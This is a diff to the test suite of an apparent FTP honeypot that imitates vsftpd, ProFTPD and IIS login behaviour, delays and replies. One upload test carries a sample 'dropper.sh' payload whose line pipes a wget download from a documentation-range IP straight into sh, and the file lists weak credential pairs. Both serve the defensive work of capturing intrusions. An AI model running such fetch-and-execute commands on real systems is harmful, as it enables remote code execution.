@@ -17,7 +17,8 @@ from loopback import ServiceServer, needs
 
 from dynapot.services.contract import FIELD_LIMIT, ConnectionInfo
 from dynapot.services.dataports import KernelDataPorts
-from dynapot.services.ftp import FileTree, FtpConfig, FtpSession, OpenPassive, make_handler
+from dynapot.services.ftp import FTPUSERS, FileTree, FtpConfig, FtpSession, OpenPassive, make_handler
+from dynapot.services.logins import COMMON_PASSWORDS, COMMON_USERS, weak_pairs
 from dynapot.services.uploads import UploadStore
 
 pytestmark = pytest.mark.timeout(30)
@@ -52,7 +53,13 @@ class Server(ServiceServer):
 
 @pytest.fixture
 def config(tmp_path: Path) -> FtpConfig:
-    return FtpConfig(upload_dir=tmp_path / "uploads", fail_delay=0.0, data_timeout=2.0)
+    return FtpConfig(
+        upload_dir=tmp_path / "uploads",
+        fail_delay=0.0,
+        data_timeout=2.0,
+        anonymous=True,
+        accept=frozenset({("admin", "123456")}),
+    )
 
 
 @pytest.fixture
@@ -89,21 +96,85 @@ def test_greeting_fits_product_and_os(personality, product, version, greeting) -
     assert session.greeting().lines == [greeting.format(h=host)]
 
 
+# Anonymous FTP on, as a deployment that wants uploads sets it (vsftpd's own default is off).
+ANON = FtpConfig(anonymous=True, fail_delay=0)
+
+
 def test_login_policy_and_commands_before_login() -> None:
-    session = FtpSession(info(), FtpConfig(fail_delay=0.5))
+    session = FtpSession(info(), FtpConfig(fail_delay=0.5, accept=frozenset({("admin", "admin1")})))
     assert session.command(b"LIST").lines == ["530 Please login with USER and PASS."]
     assert session.command(b"PASS x").lines == ["503 Login with USER first."]
-    assert session.command(b"USER root").lines == ["331 Please specify the password."]
+    assert session.command(b"USER admin").lines == ["331 Please specify the password."]
     bad = session.command(b"PASS hunter2")
     assert bad.lines == ["530 Login incorrect."] and bad.delay == 0.5 and not bad.close
-    assert ("login", "root:hunter2", {"user": "root", "password": "hunter2", "accepted": False}) in bad.events
+    assert (
+        "login",
+        "admin:hunter2",
+        {"user": "admin", "password": "hunter2", "accepted": False},
+    ) in bad.events
     assert not any(e[0] == "command" and "hunter2" in (e[1] or "") for e in bad.events)
-    session.command(b"USER root")
-    good = session.command(b"PASS toor")
+    session.command(b"USER admin")
+    good = session.command(b"PASS admin1")
     assert good.lines == ["230 Login successful."] and session.logged_in
-    assert session.command(b"PWD").lines == ['257 "/root" is the current directory']
+    assert session.command(b"PWD").lines == ['257 "/home/admin" is the current directory']
     assert session.command(b"SYST").lines == ["215 UNIX Type: L8"]
     assert session.command(b"USER admin").lines == ["530 Can't change to another user."]
+
+
+def test_weak_policy_takes_a_few_pairs_of_its_own_per_host() -> None:
+    hosts = [info(dst=f"198.18.0.{n}") for n in range(20, 30)]
+    pairs = [weak_pairs(h.identity, "ftp") for h in hosts]
+    assert len(set(pairs)) > 5  # hosts differ
+    assert pairs[0] == weak_pairs(info(dst="198.18.0.20").identity, "ftp")  # and keep theirs
+    for pair_set in pairs:
+        assert 2 <= len(pair_set) <= 4
+        assert all(user in COMMON_USERS and user not in FTPUSERS for user, _ in pair_set)
+    user, password = sorted(pairs[0])[0]
+    session = FtpSession(hosts[0], FtpConfig(fail_delay=0))  # "weak" is the default
+    session.command(b"USER " + user.encode())
+    assert session.command(b"PASS " + password.encode()).lines == ["230 Login successful."]
+    other = next(p for p in COMMON_PASSWORDS if (user, p) not in pairs[0])
+    session = FtpSession(hosts[0], FtpConfig(fail_delay=0))
+    session.command(b"USER " + user.encode())
+    assert session.command(b"PASS " + other.encode()).lines == ["530 Login incorrect."]
+
+
+@pytest.mark.parametrize(
+    ("user", "password", "config", "accepted"),
+    [
+        # As Debian's vsftpd: no anonymous FTP, root never (ftpusers), random pairs refused.
+        ("anonymous", "probe@example.com", FtpConfig(), False),
+        ("ftp", "ftp", FtpConfig(), False),
+        ("root", "toor", FtpConfig(accept="any"), False),
+        ("Kx7q", "v9!Lw2", FtpConfig(), False),
+        ("Kx7q", "v9!Lw2", FtpConfig(accept="any"), True),
+        ("admin", "admin", FtpConfig(accept="none"), False),
+        ("anonymous", "x", FtpConfig(accept="none", anonymous=True), True),
+    ],
+)
+def test_login_policies(user: str, password: str, config: FtpConfig, accepted: bool) -> None:
+    session = FtpSession(info(), config)
+    assert session.command(f"USER {user}".encode()).lines == ["331 Please specify the password."]
+    reply = session.command(f"PASS {password}".encode())
+    assert session.logged_in is accepted
+    assert reply.lines == (["230 Login successful."] if accepted else ["530 Login incorrect."])
+
+
+def test_only_vsftpd_hangs_up_on_an_overlong_line() -> None:
+    line = b"USER " + b"A" * 5000
+    vsftpd = FtpSession(info(), ANON).command(line, overlong=True)
+    assert vsftpd.lines == ["500 Input line too long."] and vsftpd.close
+    proftpd = FtpSession(info(product="ProFTPD"), ANON).command(line[:4095], overlong=True)
+    assert proftpd.lines[0].startswith("331 ") and not proftpd.close  # cut, and on it goes
+
+
+def test_vsftpd_answers_a_failed_login_after_its_own_delay() -> None:
+    session = FtpSession(info(), FtpConfig())  # fail_delay None: the imitated server's
+    delays = []
+    for _ in range(3):
+        session.command(b"USER nosuchuser")
+        delays.append(session.command(b"PASS x").delay)
+    assert all(2.5 <= d <= 3.5 for d in delays)  # delay_failed_login and pam_unix's, as recorded
 
 
 def test_three_failed_logins_hang_up() -> None:
@@ -116,7 +187,7 @@ def test_three_failed_logins_hang_up() -> None:
 
 
 def test_directory_commands_and_unknown_ones() -> None:
-    session = FtpSession(info(data_ports=KernelDataPorts()))
+    session = FtpSession(info(data_ports=KernelDataPorts()), ANON)
     session.command(b"USER anonymous")
     assert session.command(b"PASS guest@").lines == ["230 Login successful."]
     assert session.command(b"CWD pub").lines == ["250 Directory successfully changed."]
@@ -136,7 +207,7 @@ def test_directory_commands_and_unknown_ones() -> None:
 
 
 def test_port_only_back_to_the_client() -> None:
-    session = FtpSession(info(data_ports=KernelDataPorts()))
+    session = FtpSession(info(data_ports=KernelDataPorts()), ANON)
     session.command(b"USER ftp")
     session.command(b"PASS x")
     assert session.command(b"PORT 10,0,0,1,200,10").lines == ["500 Illegal PORT command."]
@@ -154,7 +225,7 @@ def test_port_only_back_to_the_client() -> None:
 
 
 def test_without_data_ports_transfers_are_refused() -> None:
-    session = FtpSession(info(data_ports=None))
+    session = FtpSession(info(data_ports=None), ANON)
     session.command(b"USER anonymous")
     session.command(b"PASS x")
     assert session.command(b"PASV").lines == ["425 Can't open data connection."]
@@ -181,7 +252,7 @@ def test_hosts_are_not_clones() -> None:
 def test_dialects_word_replies_their_own_way() -> None:
     proftpd = FtpSession(info(product="ProFTPD"))
     assert proftpd.command(b"USER bob").lines == ["331 Password required for bob"]
-    iis = FtpSession(info(personality="Microsoft Windows Server 2016"))
+    iis = FtpSession(info(personality="Microsoft Windows Server 2016"), ANON)
     iis.command(b"USER anonymous")
     assert iis.command(b"PASS x").lines == ["230 User logged in."]
     assert iis.command(b"SYST").lines == ["215 Windows_NT"]
@@ -226,9 +297,9 @@ def test_ftplib_anonymous_passive_session(server: Server) -> None:
 def test_active_mode_upload_is_kept(server: Server, config: FtpConfig) -> None:
     payload = b"#!/bin/sh\nwget http://198.51.100.7/x -O- | sh\n" * 100
     client = server.client()
-    client.login("root", "123456")
+    client.login("admin", "123456")
     client.set_pasv(False)
-    assert client.pwd() == "/root"
+    assert client.pwd() == "/home/admin"
     client.storbinary("STOR dropper.sh", io.BytesIO(payload))
     digest = hashlib.sha256(payload).hexdigest()
     kept = config.upload_dir / digest
@@ -238,7 +309,7 @@ def test_active_mode_upload_is_kept(server: Server, config: FtpConfig) -> None:
     assert upload[1] == "dropper.sh"
     assert upload[2] == {
         "name": "dropper.sh",
-        "path": "/root/dropper.sh",
+        "path": "/home/admin/dropper.sh",
         "size": len(payload),
         "sha256": digest,
         "truncated": False,
@@ -256,7 +327,9 @@ def test_active_mode_upload_is_kept(server: Server, config: FtpConfig) -> None:
 
 
 def test_upload_over_the_cap_is_truncated(tmp_path: Path) -> None:
-    config = FtpConfig(upload_dir=tmp_path / "up", fail_delay=0, max_upload=1000, data_timeout=2)
+    config = FtpConfig(
+        upload_dir=tmp_path / "up", fail_delay=0, anonymous=True, max_upload=1000, data_timeout=2
+    )
     server = Server(config)
     try:
         client = server.client()
@@ -276,7 +349,7 @@ def test_upload_over_the_cap_is_truncated(tmp_path: Path) -> None:
 def test_upload_reported_when_it_cannot_be_kept(tmp_path: Path) -> None:
     blocked = tmp_path / "not-a-directory"
     blocked.write_text("")
-    server = Server(FtpConfig(upload_dir=blocked / "uploads", fail_delay=0))
+    server = Server(FtpConfig(upload_dir=blocked / "uploads", fail_delay=0, anonymous=True))
     try:
         client = server.client()
         client.login()
@@ -291,7 +364,7 @@ def test_upload_reported_when_it_cannot_be_kept(tmp_path: Path) -> None:
 def test_uploads_are_kept_once_and_within_the_sources_quota(tmp_path: Path) -> None:
     store = UploadStore(tmp_path / "up", max_file=100_000, per_source=2 * 40_960)
     first, second = os.urandom(40_000), os.urandom(40_000)
-    with Server(FtpConfig(uploads=store, fail_delay=0, data_timeout=2)) as server:
+    with Server(FtpConfig(uploads=store, fail_delay=0, data_timeout=2, anonymous=True)) as server:
         client = server.client()
         client.login()
         client.cwd("pub")
@@ -315,7 +388,8 @@ def test_uploads_are_kept_once_and_within_the_sources_quota(tmp_path: Path) -> N
 
 def test_epsv_and_windows_listing(tmp_path: Path) -> None:
     server = Server(
-        FtpConfig(upload_dir=tmp_path, fail_delay=0), personality="Microsoft Windows Server 2012 R2"
+        FtpConfig(upload_dir=tmp_path, fail_delay=0, anonymous=True),
+        personality="Microsoft Windows Server 2012 R2",
     )
     try:
         client = server.client()
@@ -371,7 +445,7 @@ def test_port_elsewhere_is_refused_over_the_wire(server: Server) -> None:
 
 
 def test_no_data_ports(tmp_path: Path) -> None:
-    server = Server(FtpConfig(upload_dir=tmp_path, fail_delay=0), data_ports=False)
+    server = Server(FtpConfig(upload_dir=tmp_path, fail_delay=0, anonymous=True), data_ports=False)
     try:
         client = server.client()
         client.login()
@@ -395,8 +469,8 @@ def test_garbage_and_overlong_lines_get_answers(server: Server) -> None:
             b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(64).replace(b"\n", b"") + b"\r\n"
         )
         assert lines.readline().startswith(b"530")
-        sock.sendall(b"USER " + b"A" * 100_000 + b"\r\n")
-        assert lines.readline().startswith(b"331")  # vsftpd cuts the line and goes on
+        sock.sendall(b"USER " + b"A" * 1000 + b"\r\n")
+        assert lines.readline().startswith(b"331")
         sock.sendall(b"PASS x\r\n")
         assert lines.readline() == b"530 Login incorrect.\r\n"
         sock.sendall(b"USER anonymous\r\nPASS x\r\n")  # pipelined
@@ -409,6 +483,9 @@ def test_garbage_and_overlong_lines_get_answers(server: Server) -> None:
         assert help_lines[0] == b"214-The following commands are recognized.\r\n"
         sock.sendall(b"NOOP\r\n")
         assert lines.readline() == b"200 NOOP ok.\r\n"
+        sock.sendall(b"NOOP " + b"A" * 100_000 + b"\r\n")  # vsftpd refuses the line and hangs up
+        assert lines.readline() == b"500 Input line too long.\r\n"
+        assert lines.readline() == b""
     bad = server.kinds("bad-request")
     assert {r[1] for r in bad} == {"unprintable command", "command line too long"}
     user = next(r for r in server.kinds("login"))
